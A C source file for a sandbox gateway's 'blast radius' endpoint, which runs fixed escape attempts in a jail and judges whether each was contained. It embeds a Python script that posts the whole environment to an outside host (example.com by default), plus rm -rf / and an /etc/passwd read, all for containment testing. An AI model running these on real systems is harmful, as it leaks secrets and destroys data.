/* POST /v1/blast: the blast radius, tried live (docs/web.md, docs/api.md).
 *
 * Five classic attempts run in a fresh jail under a policy, or under a
 * draft of it: write to the scratch space, read /etc/passwd, post the
 * environment to an outside host, loop forever, rm -rf /. Each is a fixed
 * argv chosen here (no shell string is ever built from the request: the
 * one value that reaches an attempt, the host to post to, is an argument
 * of its own, checked against a strict grammar first), run the way an
 * exec action runs (dg_spawner_exec in the session's jail: its namespaces,
 * cgroup, limits, seccomp filter and egress proxy), with no agent and no
 * action decision: the run shows what the jail holds once code runs,
 * whatever the policy's action rules say about exec. Each is classified
 * ran, contained or leaked (error: it could not tell) from its evidence,
 * naming the rule or bound that decided; the session is then ended.
 *
 * A draft is a small typed set of knobs over the chosen policy (egress
 * off or one host, scratch size, wall clock, a fake secret), turned into
 * that session's own policy: never saved, never a policy file of anyone's.
 * The fake secret goes into the gateway's own environment for the run
 * (DESKGATE_BLAST_SECRET_<n>) and nowhere else: the jail's environment is
 * the spawner's allowlist, so no attempt may see it, and each attempt's
 * output is searched for it. It is never echoed, logged or recorded: the
 * answer names the variable and its length only.
 *
 * Between desktop-link.c (which hands it a blast session's exec results)
 * and session.c in the gateway's order; server.c routes to it.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/crypto.h>

#include "gateway/server-priv.h"

#define DG_BLAST_RUNS_MAX 2          /* blast runs at once in one gateway */
#define DG_BLAST_PER_MINUTE 4        /* runs one gateway (one host) starts in any 60 s */
#define DG_BLAST_BUSY_RETRY_S 5      /* Retry-After while the token's own run goes on */
#define DG_BLAST_BODY_MAX 2048       /* bytes of a request body */
#define DG_BLAST_SECRET_MAX 64       /* bytes of the draft's fake secret */
#define DG_BLAST_HOST_MAX 253        /* bytes of an egress host name */
#define DG_BLAST_HOSTS_MAX 1         /* egress hosts a draft may allow */
#define DG_BLAST_WALL_MAX_S 10       /* the loop's wall clock at most (draft or policy) */
#define DG_BLAST_SCRATCH_MB_MAX 4096 /* a draft's scratch_mb at most */
#define DG_BLAST_RUN_MAX_S 120       /* a whole run, desktop start included */
#define DG_BLAST_EGRESS_WAIT_MS 1500 /* the post ended: wait this long for the proxy's decision */
#define DG_BLAST_SHOWN_MAX 600       /* bytes of an attempt's stdout/stderr in the answer */
#define DG_BLAST_WRITE_BYTES 4194304 /* the scratch write: 4 MiB (write_sh says it too) */
#define DG_BLAST_HOST_FILE_MAX (256 * 1024) /* bytes of the host's /etc/passwd read */
#define DG_BLAST_DIR_MAX 100000      /* entries of the host's /usr/bin counted */
#define DG_BLAST_DEFAULT_TARGET "example.com:80" /* posted to when nothing names a host */
#define DG_BLAST_SECRET_VAR "DESKGATE_BLAST_SECRET_"

enum { A_WRITE, A_PASSWD, A_EGRESS, A_LOOP, A_RM, A_AFTER, N_STEPS };
#define N_ATTEMPTS A_AFTER

static const char *const attempt_ids[N_ATTEMPTS] = {"write", "passwd", "egress", "loop", "rm"};
static const char *const attempt_titles[N_ATTEMPTS] = {
	"Write to the scratch space", "Read /etc/passwd", "Post the environment to an outside host",
	"Loop forever", "rm -rf /"};

/* The attempts' programs. "$1" of the egress one is the URL, an argument. */
static const char write_sh[] =
	"head -c 4194304 /dev/zero > /tmp/blast-write; st=$?; "
	"echo \"written $(wc -c < /tmp/blast-write 2>/dev/null || echo 0)\"; exit $st";
static const char post_py[] =
	"import os, sys, urllib.request, urllib.error\n"
	"env = ''.join('%s=%s\\n' % kv for kv in sorted(os.environ.items()))\n"
	"print('ENV-BEGIN'); print(env, end=''); print('ENV-END', flush=True)\n"
	"req = urllib.request.Request(sys.argv[1], data=env.encode(), method='POST')\n"
	"try:\n"
	"    with urllib.request.urlopen(req, timeout=5) as r:\n"
	"        print('ANSWER', r.status)\n"
	"except urllib.error.HTTPError as e:\n"
	"    print('ANSWER', e.code, e.read(300).decode('utf-8', 'replace').replace('\\n', ' '))\n"
	"except Exception as e:\n"
	"    print('FAILED', type(e).__name__, str(e)[:300])\n";
static const char after_sh[] = "ls -A /usr/bin | wc -l; ls -A /tmp | wc -l; echo alive";

struct blast_draft {
	bool given;
	bool egress_off;
	char host[DG_BLAST_HOST_MAX + 8]; /* host:port, "" when none */
	long long scratch_mb, wall_seconds; /* 0: not given */
	char secret[DG_BLAST_SECRET_MAX + 1];
	size_t secret_len;
};

struct blast_run {
	bool used, finished;
	int slot;
	struct gw *gw;
	struct conn *http;          /* the POST waiting for the answer; NULL once gone */
	struct conn creator, watcher; /* sinks: the session's creation, its events */
	struct gw_session *s;
	char who[DG_TOKEN_NAME_MAX + 1];
	char base[DG_POLICY_NAME_MAX + 1];
	struct blast_draft d;
	char secret_var[48];
	char target[DG_BLAST_HOST_MAX + 8];
	unsigned exec_seconds, wall_s;
	unsigned long long scratch_mb;
	double cpus;
	int step;
	json_t *results[N_STEPS];   /* each step's exec result, or {"error": why} */
	json_t *egress;             /* the proxy's decision seen during the post */
	json_t *attempts;           /* the answer's attempts */
	long host_bin_before;
	long long t0;
	lws_sorted_usec_list_t sul_deadline, sul_wait, sul_free;
};

static struct blast_run runs[DG_BLAST_RUNS_MAX];
static long long starts[DG_BLAST_PER_MINUTE]; /* ms; a ring, the oldest at n_starts % N */
static unsigned n_starts;

static void step_start(struct blast_run *b);
static void finish(struct blast_run *b, const char *error);

/* ---- the request ------------------------------------------------------------ */

static int bad_field(struct conn *c, const char *field, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));
static int bad_field(struct conn *c, const char *field, const char *fmt, ...)
{
	char msg[DG_ERR_MAX];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	json_t *j = json_pack("{s:{s:s, s:s, s:s}}", "error", "code", "bad_request", "field", field,
			      "message", msg);
	char *s = json_dumps(j, JSON_COMPACT);
	json_decref(j);
	int r = dg_gw_write_http(c, 400, "application/json", s ? s : "{}", s ? strlen(s) : 2);
	free(s);
	return r;
}

/* An error answer without a field: {"error": {code, message}}. */
static int plain_error(struct conn *c, int status, const char *code, const char *msg)
{
	json_t *j = json_pack("{s:{s:s, s:s}}", "error", "code", code, "message", msg);
	char *s = json_dumps(j, JSON_COMPACT);
	json_decref(j);
	int r = dg_gw_write_http(c, status, "application/json", s ? s : "{}", s ? strlen(s) : 2);
	free(s);
	return r;
}

static int too_many(struct conn *c, long retry_s, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));
static int too_many(struct conn *c, long retry_s, const char *fmt, ...)
{
	char msg[DG_ERR_MAX], retry[24];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	snprintf(retry, sizeof(retry), "%ld", retry_s < 1 ? 1 : retry_s);
	json_t *j = json_pack("{s:{s:s, s:s, s:i}}", "error", "code", "too_many", "message", msg,
			      "retry_after_s", (int)(retry_s < 1 ? 1 : retry_s));
	char *s = json_dumps(j, JSON_COMPACT);
	json_decref(j);
	const char *extra[] = {"retry-after:", retry, NULL};
	int r = dg_gw_write_http_extra(c->wsi, 429, "application/json", extra, s ? s : "{}",
				       s ? strlen(s) : 2);
	free(s);
	return r;
}

/* host:port of a draft's egress host: a DNS name or IPv4 address in
 * lowercase (labels of 1 to 63 of [a-z0-9-], [a-z0-9] at both ends of
 * the name), no wildcard, a port 1..65535 without a leading zero. */
static bool host_ok(const char *h)
{
	const char *colon = strrchr(h, ':');
	if (!colon || colon == h || (size_t)(colon - h) > DG_BLAST_HOST_MAX)
		return false;
	size_t n = (size_t)(colon - h), label = 0;
	for (size_t i = 0; i < n; i++) {
		char ch = h[i];
		bool alnum = (ch >= 'a' && ch <= 'z') || (ch >= '0' && ch <= '9');
		if (!alnum && ((ch != '.' && ch != '-') || i == 0 || i == n - 1))
			return false;
		label = ch == '.' ? 0 : label + 1;
		if ((ch == '.' && h[i - 1] == '.') || label > 63)
			return false;
	}
	const char *p = colon + 1;
	size_t pn = strlen(p);
	if (pn < 1 || pn > 5 || p[0] == '0' || strspn(p, "0123456789") != pn)
		return false;
	return atol(p) <= 65535;
}

/* An integer field of the draft within [lo, hi]: 1 given, 0 absent, -1 bad. */
static int int_field(struct conn *c, const json_t *d, const char *key, long long lo, long long hi,
		     long long *out, int *reply)
{
	json_t *v = json_object_get(d, key);
	if (!v)
		return 0;
	char field[48];
	snprintf(field, sizeof(field), "draft.%s", key);
	if (!json_is_integer(v) || json_integer_value(v) < lo || json_integer_value(v) > hi) {
		*reply = bad_field(c, field, "%s must be an integer from %lld to %lld", field, lo, hi);
		return -1;
	}
	*out = json_integer_value(v);
	return 1;
}

/* The draft's knobs, each checked against its type and bounds: 0, or -1
 * when *reply holds the 400 (naming the field). */
static int draft_parse(struct conn *c, const json_t *d, struct blast_draft *o, int *reply)
{
	memset(o, 0, sizeof(*o));
	if (!json_is_object(d)) {
		*reply = bad_field(c, "draft", "draft must be an object of egress, egress_hosts, "
				   "scratch_mb, wall_seconds, secret");
		return -1;
	}
	o->given = true;
	const char *key;
	json_t *v;
	json_object_foreach((json_t *)d, key, v)
	{
		if (strcmp(key, "egress") && strcmp(key, "egress_hosts") && strcmp(key, "scratch_mb") &&
		    strcmp(key, "wall_seconds") && strcmp(key, "secret")) {
			char k[DG_SHOW_BUF];
			dg_show_str(key, DG_SHOW_MAX, true, k, sizeof(k));
			*reply = bad_field(c, "draft", "unknown field \"%s\" in draft (egress, egress_hosts, "
					   "scratch_mb, wall_seconds, secret)", k);
			return -1;
		}
	}
	json_t *eg = json_object_get(d, "egress"), *hosts = json_object_get(d, "egress_hosts");
	if (eg && !json_is_false(eg)) {
		*reply = bad_field(c, "draft.egress", "draft.egress may only be false (no host "
				   "reachable); name a host with draft.egress_hosts");
		return -1;
	}
	if (eg && hosts) {
		*reply = bad_field(c, "draft.egress_hosts", "draft.egress false and "
				   "draft.egress_hosts contradict each other: give one");
		return -1;
	}
	o->egress_off = eg != NULL;
	if (hosts) {
		if (!json_is_array(hosts) || json_array_size(hosts) > DG_BLAST_HOSTS_MAX) {
			*reply = bad_field(c, "draft.egress_hosts", "draft.egress_hosts must be an array "
					   "of at most %d \"host:port\"", DG_BLAST_HOSTS_MAX);
			return -1;
		}
		json_t *h = json_array_get(hosts, 0);
		if (h && (!json_is_string(h) || json_string_length(h) > DG_BLAST_HOST_MAX + 6 ||
			  !host_ok(json_string_value(h)))) {
			*reply = bad_field(c, "draft.egress_hosts", "draft.egress_hosts[0] must be "
					   "\"host:port\": a lowercase name or IPv4 address of at most "
					   "%d bytes (labels of at most 63), no wildcard, a port from 1 "
					   "to 65535",
					   DG_BLAST_HOST_MAX);
			return -1;
		}
		if (h)
			snprintf(o->host, sizeof(o->host), "%s", json_string_value(h));
		else
			o->egress_off = true; /* [] is no host */
	}
	if (int_field(c, d, "scratch_mb", DG_LIMIT_SCRATCH_MB_MIN, DG_BLAST_SCRATCH_MB_MAX,
		      &o->scratch_mb, reply) < 0 ||
	    int_field(c, d, "wall_seconds", DG_LIMIT_SECONDS_MIN, DG_BLAST_WALL_MAX_S,
		      &o->wall_seconds, reply) < 0)
		return -1;
	json_t *sec = json_object_get(d, "secret");
	if (sec) {
		const char *s = json_string_value(sec);
		size_t n = json_string_length(sec);
		bool ok = s && n >= 1 && n <= DG_BLAST_SECRET_MAX;
		for (size_t i = 0; ok && i < n; i++)
			ok = s[i] >= 0x21 && s[i] <= 0x7e;
		if (!ok) {
			*reply = bad_field(c, "draft.secret", "draft.secret must be 1 to %d printable "
					   "ASCII characters, no spaces", DG_BLAST_SECRET_MAX);
			return -1;
		}
		memcpy(o->secret, s, n);
		o->secret_len = n;
	}
	return 0;
}

/* The session's policy: the base's text with the draft's knobs set,
 * compiled as any policy is. 0, or -1 with why. */
static int draft_policy(const char *base_text, size_t base_len, const struct blast_draft *d,
			struct dg_gw_own_policy *own, const char **field, char *why, size_t whylen)
{
	json_error_t jerr;
	json_t *root = json_loadb(base_text, base_len, JSON_REJECT_DUPLICATES, &jerr);
	*field = "policy";
	if (!json_is_object(root)) {
		json_decref(root);
		snprintf(why, whylen, "the base policy does not read as JSON: %s", jerr.text);
		return -1;
	}
	json_t *lim = json_object_get(root, "limits");
	if (!lim) {
		lim = json_object();
		json_object_set_new(root, "limits", lim);
	}
	if (d->scratch_mb)
		json_object_set_new(lim, "scratch_mb", json_integer(d->scratch_mb));
	if (d->wall_seconds)
		json_object_set_new(lim, "exec_seconds", json_integer(d->wall_seconds));
	if (d->egress_off)
		json_object_del(root, "egress");
	if (d->host[0]) {
		json_object_set_new(root, "egress", json_pack("{s:[s]}", "allow", d->host));
		/* egress is a rule section: a policy with one says what no rule
		 * allows. The run decides no action, so this changes nothing it
		 * shows. */
		if (!json_object_get(root, "default"))
			json_object_set_new(root, "default", json_string("allow"));
	}
	char *text = json_dumps(root, JSON_INDENT(2) | JSON_SORT_KEYS);
	json_decref(root);
	if (!text) {
		snprintf(why, whylen, "no memory for the draft's policy");
		return -1;
	}
	struct dg_err err = {{0}};
	if (dg_policy_parse(text, strlen(text), "<blast draft>", &own->policy, &err) != 0) {
		free(text);
		/* The compiler's message names the policy's key: the knob that set it. */
		*field = strstr(err.msg, "egress") ? "draft.egress_hosts"
			 : strstr(err.msg, "scratch_mb") ? "draft.scratch_mb"
			 : strstr(err.msg, "exec_seconds") ? "draft.wall_seconds" : "draft";
		snprintf(why, whylen, "the draft does not make a valid policy: %.400s", err.msg);
		return -1;
	}
	own->text = text;
	own->len = strlen(text);
	return 0;
}

/* ---- evidence ------------------------------------------------------------- */

static const char *res_str(const json_t *res, const char *key)
{
	const char *s = json_string_value(json_object_get(res, key));
	return s ? s : "";
}

/* At most DG_BLAST_SHOWN_MAX bytes of s, cut at a character's start. */
static json_t *shown(const char *s)
{
	size_t n = strlen(s);
	if (n > DG_BLAST_SHOWN_MAX) {
		n = DG_BLAST_SHOWN_MAX;
		while (n > 0 && ((unsigned char)s[n] & 0xc0) == 0x80)
			n--;
	}
	return json_stringn(s, n);
}

/* The first line of s (at most 160 bytes, at a character's start), into out. */
static void first_line(const char *s, char *out, size_t len)
{
	size_t n = strcspn(s, "\n");
	if (n > 160)
		n = 160;
	while (n > 0 && n < strlen(s) && ((unsigned char)s[n] & 0xc0) == 0x80)
		n--;
	snprintf(out, len, "%.*s", (int)n, s);
}

/* Entries of a host directory (the gateway's view of it), or -1. */
static long count_dir(const char *path)
{
	DIR *dir = opendir(path);
	if (!dir)
		return -1;
	long n = 0;
	for (struct dirent *e; n < DG_BLAST_DIR_MAX && (e = readdir(dir));)
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			n++;
	closedir(dir);
	return n;
}

/* Whether text holds line (a whole line). */
static bool has_line(const char *text, const char *line, size_t n)
{
	for (const char *p = text; *p;) {
		size_t k = strcspn(p, "\n");
		if (k == n && memcmp(p, line, n) == 0)
			return true;
		p += k + (p[k] ? 1 : 0);
	}
	return false;
}

/* The host's /etc/passwd against what the attempt read: how many host
 * lines there are that the jail's own file does not have, and how many
 * of those the attempt saw. -1 when the host's file cannot be read. */
static int passwd_compare(const char *seen, int *host_only, int *leaked)
{
	int fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	char *buf = malloc(DG_BLAST_HOST_FILE_MAX + 1);
	ssize_t n = buf ? read(fd, buf, DG_BLAST_HOST_FILE_MAX) : -1;
	close(fd);
	if (n < 0) {
		free(buf);
		return -1;
	}
	buf[n] = '\0';
	*host_only = *leaked = 0;
	for (char *p = buf; *p;) {
		size_t k = strcspn(p, "\n");
		if (k && !has_line(DG_JAIL_ETC_PASSWD, p, k)) {
			(*host_only)++;
			if (has_line(seen, p, k))
				(*leaked)++;
		}
		p += k + (p[k] ? 1 : 0);
	}
	OPENSSL_cleanse(buf, (size_t)n);
	free(buf);
	return 0;
}

/* Whether the fake secret shows in anything an attempt printed. */
static bool secret_seen(const struct blast_run *b, const json_t *res)
{
	if (!b->d.secret_len)
		return false;
	const char *keys[] = {"stdout", "stderr", "error"};
	for (size_t i = 0; i < 3; i++)
		if (strstr(res_str(res, keys[i]), b->d.secret))
			return true;
	return false;
}

static void attempt_add(struct blast_run *b, int i, const char *verdict, const char *rule,
			const char *evidence, const json_t *res)
{
	json_t *a = json_pack("{s:s, s:s, s:s, s:s, s:s}", "id", attempt_ids[i], "title",
			      attempt_titles[i], "verdict", verdict, "rule", rule, "evidence", evidence);
	if (!a)
		return;
	json_t *ec = json_object_get(res, "exit_code");
	if (ec)
		json_object_set(a, "exit_code", ec);
	static const char *const copied[] = {"timed_out", "duration_ms", "stdout_truncated",
					     "stderr_truncated"};
	for (size_t k = 0; k < 4; k++)
		if (json_object_get(res, copied[k]))
			json_object_set(a, copied[k], json_object_get(res, copied[k]));
	json_object_set_new(a, "stdout", shown(res_str(res, "stdout")));
	json_object_set_new(a, "stderr", shown(res_str(res, json_object_get(res, "error") ? "error"
											     : "stderr")));
	json_array_append_new(b->attempts, a);
	/* The recording keeps the verdict and the rule, not the output. */
	if (b->s)
		dg_gw_note(b->s, json_pack("{s:s, s:s, s:s, s:s}", "type", "blast", "attempt",
					   attempt_ids[i], "verdict", verdict, "rule", rule));
}

#define EV(...) snprintf(ev, sizeof(ev), __VA_ARGS__)

/* An attempt whose program never ran (the spawner refused, no result). */
static bool not_run(struct blast_run *b, int i, const json_t *res)
{
	if (json_is_true(json_object_get(res, "ok")))
		return false;
	char ev[DG_ERR_MAX + 128];
	EV("the attempt could not run: %s", res_str(res, "error"));
	attempt_add(b, i, "error", "-", ev, res);
	return true;
}

static void judge_write(struct blast_run *b, const json_t *res)
{
	if (not_run(b, A_WRITE, res))
		return;
	char ev[DG_ERR_MAX + 256], line[200];
	long long code = json_integer_value(json_object_get(res, "exit_code"));
	const char *out = res_str(res, "stdout");
	const char *w = strstr(out, "written ");
	long long written = w ? atoll(w + 8) : -1;
	unsigned long long cap = b->scratch_mb * 1024 * 1024;
	first_line(res_str(res, "stderr"), line, sizeof(line));
	if (code == 0 && written == DG_BLAST_WRITE_BYTES && (unsigned long long)written <= cap) {
		EV("wrote %d bytes to /tmp/blast-write and read them back: /tmp is the session's own "
		   "tmpfs of %llu MiB, gone when it ends", DG_BLAST_WRITE_BYTES, b->scratch_mb);
		attempt_add(b, A_WRITE, "ran", "limits.scratch_mb", ev, res);
	} else if (code == 0 && written > 0 && (unsigned long long)written > cap) {
		EV("wrote %lld bytes, more than the scratch space of %llu MiB should hold", written,
		   b->scratch_mb);
		attempt_add(b, A_WRITE, "leaked", "limits.scratch_mb", ev, res);
	} else if ((unsigned long long)DG_BLAST_WRITE_BYTES > cap) {
		EV("the write of %d bytes stopped at %lld (exit %lld%s%s): the scratch space is %llu "
		   "MiB", DG_BLAST_WRITE_BYTES, written, code, line[0] ? ": " : "", line, b->scratch_mb);
		attempt_add(b, A_WRITE, "contained", "limits.scratch_mb", ev, res);
	} else {
		EV("the write failed though it fits the scratch space of %llu MiB (exit %lld%s%s)",
		   b->scratch_mb, code, line[0] ? ": " : "", line);
		attempt_add(b, A_WRITE, "error", "limits.scratch_mb", ev, res);
	}
}

static void judge_passwd(struct blast_run *b, const json_t *res)
{
	if (not_run(b, A_PASSWD, res))
		return;
	char ev[DG_ERR_MAX + 256];
	int host_only = 0, leaked = 0;
	const char *out = res_str(res, "stdout");
	int lines = 0;
	for (const char *p = out; *p; p++)
		lines += *p == '\n';
	if (passwd_compare(out, &host_only, &leaked) != 0) {
		EV("the gateway could not read the host's /etc/passwd to compare");
		attempt_add(b, A_PASSWD, "error", "-", ev, res);
	} else if (leaked) {
		EV("%d of the host's %d own lines of /etc/passwd were readable in the jail", leaked,
		   host_only);
		attempt_add(b, A_PASSWD, "leaked", "jail: generated /etc", ev, res);
	} else if (host_only == 0) {
		EV("the host's /etc/passwd has no line the jail's own lacks: nothing to tell them apart");
		attempt_add(b, A_PASSWD, "error", "jail: generated /etc", ev, res);
	} else {
		EV("the jail read its own /etc/passwd (%d lines: root, user, nobody, generated by "
		   "deskgate); none of the host's %d lines it lacks was there (exit %lld)", lines,
		   host_only, (long long)json_integer_value(json_object_get(res, "exit_code")));
		attempt_add(b, A_PASSWD, "contained", "jail: generated /etc", ev, res);
	}
}

/* The names of the variables the post's environment dump holds, "A, B, C". */
static void env_names(const char *out, char *names, size_t len)
{
	names[0] = '\0';
	const char *p = strstr(out, "ENV-BEGIN\n");
	const char *end = p ? strstr(p, "ENV-END") : NULL;
	if (!p || !end)
		return;
	size_t n = 0;
	for (p += 10; p < end;) {
		size_t k = strcspn(p, "=\n");
		if (p + k <= end && p[k] == '=' && n + k + 3 < len) {
			n += (size_t)snprintf(names + n, len - n, "%s%.*s", n ? ", " : "", (int)k, p);
		}
		p += strcspn(p, "\n");
		if (*p)
			p++;
	}
}

static void judge_egress(struct blast_run *b, const json_t *res)
{
	if (not_run(b, A_EGRESS, res))
		return;
	char ev[DG_ERR_MAX * 2 + 1024], names[512], answer[200] = "";
	const char *out = res_str(res, "stdout");
	env_names(out, names, sizeof(names));
	const char *a = strstr(out, "ANSWER ");
	const char *f = strstr(out, "FAILED ");
	if (a)
		first_line(a + 7, answer, sizeof(answer));
	else if (f)
		first_line(f + 7, answer, sizeof(answer));
	char sec[160] = "";
	if (b->d.secret_len)
		snprintf(sec, sizeof(sec), "; the fake secret (%s, %zu bytes) is not among them",
			 b->secret_var, b->d.secret_len);
	const char *verdict = json_string_value(json_object_get(b->egress, "verdict"));
	const char *rule = json_string_value(json_object_get(b->egress, "rule"));
	const char *reason = json_string_value(json_object_get(b->egress, "reason"));
	bool allowed = verdict && strcmp(verdict, "allow") == 0;
	if (secret_seen(b, res)) {
		EV("the fake secret (%s) was in what the attempt saw or sent", b->secret_var);
		attempt_add(b, A_EGRESS, "leaked", "jail: environment allowlist", ev, res);
	} else if (!verdict && a) {
		EV("POST http://%s/ was answered (%s) and the egress proxy decided nothing: a way "
		   "out around the proxy", b->target, answer);
		attempt_add(b, A_EGRESS, "leaked", "jail: loopback-only network", ev, res);
	} else if (!verdict) {
		EV("POST http://%s/ did not get out (%s) and the proxy saw no request: the jail has "
		   "no other way out; the environment it would have posted: %s%s", b->target,
		   answer[0] ? answer : "no answer", names[0] ? names : "none", sec);
		attempt_add(b, A_EGRESS, "contained", "jail: loopback-only network", ev, res);
	} else if (allowed) {
		EV("the egress proxy let POST http://%s/ out (%s: %s) and it was answered: %s; what it "
		   "posted: the jail's environment, %s%s", b->target, rule ? rule : "?",
		   reason ? reason : "", answer[0] ? answer : "no answer", names[0] ? names : "none",
		   sec);
		attempt_add(b, A_EGRESS, "ran", rule ? rule : "egress.allow", ev, res);
	} else {
		EV("the egress proxy refused POST http://%s/ (%s: %s), so nothing was posted (the "
		   "attempt saw: %s); the environment it would have posted: %s%s", b->target,
		   rule ? rule : "?", reason ? reason : "", answer[0] ? answer : "no answer",
		   names[0] ? names : "none", sec);
		attempt_add(b, A_EGRESS, "contained", rule ? rule : "egress.default", ev, res);
	}
}

static void judge_loop(struct blast_run *b, const json_t *res)
{
	if (not_run(b, A_LOOP, res))
		return;
	char ev[512], rule[64];
	long long ms = json_integer_value(json_object_get(res, "duration_ms"));
	bool capped = !b->d.wall_seconds && b->wall_s < b->exec_seconds;
	snprintf(rule, sizeof(rule), "%s", capped ? "blast run's wall clock" : "limits.exec_seconds");
	if (json_is_true(json_object_get(res, "timed_out"))) {
		if (capped)
			EV("ended by the wall clock after %.1f s: the blast run's own cap of %d s, "
			   "below limits.exec_seconds (%u s), which ends a real exec; it spun under the "
			   "CPU quota of %g %s (limits.cpus) meanwhile", (double)ms / 1000,
			   DG_BLAST_WALL_MAX_S, b->exec_seconds, b->cpus, b->cpus == 1 ? "core" : "cores");
		else
			EV("ended by the wall clock after %.1f s (limits.exec_seconds: %u s); it spun "
			   "under the CPU quota of %g %s (limits.cpus) meanwhile", (double)ms / 1000,
			   b->wall_s, b->cpus, b->cpus == 1 ? "core" : "cores");
		attempt_add(b, A_LOOP, "contained", rule, ev, res);
	} else {
		EV("the loop ended on its own after %.1f s (exit %lld): no bound ended it",
		   (double)ms / 1000, (long long)json_integer_value(json_object_get(res, "exit_code")));
		attempt_add(b, A_LOOP, "error", rule, ev, res);
	}
}

static void judge_rm(struct blast_run *b, const json_t *res, const json_t *after)
{
	if (not_run(b, A_RM, res))
		return;
	char ev[DG_ERR_MAX + 512], line[200];
	long host_after = count_dir("/usr/bin");
	const char *out = res_str(after, "stdout");
	long jail_bin = -1, jail_tmp = -1;
	bool alive = json_is_true(json_object_get(after, "ok")) && strstr(out, "alive") &&
		     sscanf(out, "%ld %ld", &jail_bin, &jail_tmp) == 2;
	const char *err = res_str(res, "stderr");
	long refusals = 0;
	for (const char *p = err; (p = strstr(p, "Read-only file system")); p++)
		refusals++;
	first_line(err, line, sizeof(line));
	long long code = json_integer_value(json_object_get(res, "exit_code"));
	bool timed_out = json_is_true(json_object_get(res, "timed_out"));
	char how[96];
	if (timed_out)
		snprintf(how, sizeof(how), "the wall clock ended it after %u s", b->wall_s);
	else
		snprintf(how, sizeof(how), "rm exited %lld", code);
	if (b->host_bin_before < 0 || host_after < 0) {
		EV("%s; the gateway could not count the host's /usr/bin to compare", how);
		attempt_add(b, A_RM, "error", "-", ev, res);
	} else if (host_after != b->host_bin_before || (alive && jail_bin < host_after)) {
		EV("%s; the host's /usr/bin went from %ld to %ld entries, the jail's shows %ld", how,
		   b->host_bin_before, host_after, jail_bin);
		attempt_add(b, A_RM, "leaked", "jail: read-only root and system binds", ev, res);
	} else if (!alive) {
		EV("%s, and no program could run in the jail afterwards (%s): the jail did not "
		   "survive, the host did (/usr/bin: %ld entries before and after)", how,
		   res_str(after, "error")[0] ? res_str(after, "error") : "no answer", host_after);
		attempt_add(b, A_RM, "error", "jail: read-only root and system binds", ev, res);
	} else {
		EV("%s (%ld \"Read-only file system\" refusals%s%s); afterwards the jail still ran a "
		   "program and its /usr/bin lists %ld entries, as the host's does before and after "
		   "(%ld); only the session's own scratch files went (the jail's to lose: %ld left "
		   "in /tmp)", how, refusals, line[0] ? ", first: " : "", line, jail_bin, host_after,
		   jail_tmp);
		attempt_add(b, A_RM, "contained", "jail: read-only root and system binds", ev, res);
	}
}

/* ---- the run ---------------------------------------------------------------- */

static void run_free_now(lws_sorted_usec_list_t *sul)
{
	struct blast_run *b = lws_container_of(sul, struct blast_run, sul_free);
	for (int i = 0; i < N_STEPS; i++)
		json_decref(b->results[i]);
	json_decref(b->egress);
	json_decref(b->attempts);
	OPENSSL_cleanse(&b->d, sizeof(b->d));
	memset(b, 0, sizeof(*b));
}

static void judge_all(struct blast_run *b)
{
	const json_t *r[N_STEPS];
	json_t *missing = json_pack("{s:b, s:s}", "ok", 0, "error", "the run ended before it");
	for (int i = 0; i < N_STEPS; i++)
		r[i] = b->results[i] ? b->results[i] : missing;
	judge_write(b, r[A_WRITE]);
	judge_passwd(b, r[A_PASSWD]);
	judge_egress(b, r[A_EGRESS]);
	judge_loop(b, r[A_LOOP]);
	judge_rm(b, r[A_RM], r[A_AFTER]);
	json_decref(missing);
}

/* Ends the run: the attempts judged, the session ended, the answer sent
 * (error: why the run stopped early), the secret out of the environment;
 * the run's memory goes on the next turn of the loop (a sink may be what
 * called). */
static void finish(struct blast_run *b, const char *error)
{
	if (b->finished)
		return;
	b->finished = true;
	lws_sul_cancel(&b->sul_deadline);
	lws_sul_cancel(&b->sul_wait);
	if (b->secret_var[0])
		unsetenv(b->secret_var);
	b->attempts = json_array();
	if (b->step > 0 || b->results[0])
		judge_all(b);
	struct gw_session *s = b->s;
	char sid[DG_SESSION_ID_MAX + 1] = "";
	if (s) {
		snprintf(sid, sizeof(sid), "%s", s->id);
		s->blast_exec = NULL;
		s->blast = NULL;
		b->s = NULL;
		dg_gw_session_end(s, error ? error : "the blast run ended");
	}
	json_t *ans = json_pack("{s:s, s:s, s:s, s:I, s:{s:I, s:I, s:f, s:I}}", "policy", b->base,
				"session", sid, "egress_target", b->target, "duration_ms",
				(json_int_t)(dg_now_ms() - b->t0), "limits", "scratch_mb",
				(json_int_t)b->scratch_mb, "exec_seconds", (json_int_t)b->exec_seconds,
				"cpus", b->cpus, "wall_seconds", (json_int_t)b->wall_s);
	if (ans && b->d.given) {
		json_t *d = json_object();
		if (b->d.egress_off)
			json_object_set_new(d, "egress", json_false());
		if (b->d.host[0])
			json_object_set_new(d, "egress_hosts", json_pack("[s]", b->d.host));
		if (b->d.scratch_mb)
			json_object_set_new(d, "scratch_mb", json_integer(b->d.scratch_mb));
		if (b->d.wall_seconds)
			json_object_set_new(d, "wall_seconds", json_integer(b->d.wall_seconds));
		if (b->d.secret_len)
			json_object_set_new(d, "secret", json_pack("{s:s, s:I}", "variable", b->secret_var,
								  "length", (json_int_t)b->d.secret_len));
		json_object_set_new(ans, "draft", d);
	}
	if (ans && error)
		json_object_set_new(ans, "error", json_string(error));
	if (ans)
		json_object_set(ans, "attempts", b->attempts);
	if (b->http) {
		b->http->blast = NULL;
		dg_gw_http_reply(b->http, ans ? 200 : 500, ans ? ans : json_pack("{s:{s:s, s:s}}",
			"error", "code", "internal", "message", "no memory for the answer"));
		b->http = NULL;
	} else {
		json_decref(ans);
	}
	lws_sul_schedule(b->gw->ctx, 0, &b->sul_free, run_free_now, 1);
}

static void on_deadline(lws_sorted_usec_list_t *sul)
{
	struct blast_run *b = lws_container_of(sul, struct blast_run, sul_deadline);
	char why[96];
	snprintf(why, sizeof(why), "the blast run took longer than %d s", DG_BLAST_RUN_MAX_S);
	finish(b, why);
}

static void next_step(struct blast_run *b)
{
	if (++b->step >= N_STEPS)
		return finish(b, NULL);
	step_start(b);
}

